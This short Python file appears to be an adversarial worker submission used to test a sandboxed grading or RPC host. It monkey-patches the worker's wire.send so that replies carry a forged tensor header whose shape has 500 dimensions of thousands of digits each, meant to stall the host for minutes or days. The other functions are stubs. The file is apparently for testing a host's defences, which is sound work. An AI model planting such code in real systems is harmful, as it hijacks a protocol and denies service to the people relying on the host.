"""Sends a shape of hundreds of sizes with thousands of digits each: their product takes a minute, or a day."""
import json
import struct
import sys

wire = next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))
honest = wire.send


def blob_of(entries, data):
    text = json.dumps(entries).encode()
    text += b" " * (-len(text) % 8)
    return len(text).to_bytes(8, "little") + text + data


def send_blob(channel, number, blob, value=None):
    text = json.dumps({"id": number, "ok": {"value": value or {"$": "tensor", "k": "t0"}}}).encode()
    channel.sendall(struct.pack(">4sIQ", b"mlg1", len(text), len(blob)) + text + blob)

SHAPE = ('{"t0":{"dtype":"F32","shape":[' + ",".join(["9" * 4300] * 500) + '],"data_offsets":[0,4]}}').encode()


def forged(channel, header, blob=()):
    if "value" not in header.get("ok", {}):
        return honest(channel, header, blob)
    send_blob(channel, header["id"], len(SHAPE).to_bytes(8, "little") + SHAPE, None)


wire.send = forged


def stack_rows(vectors):
    raise ValueError


def score_matrix(Q, K):
    raise ValueError


def favourite_movie(S, user):
    return -1
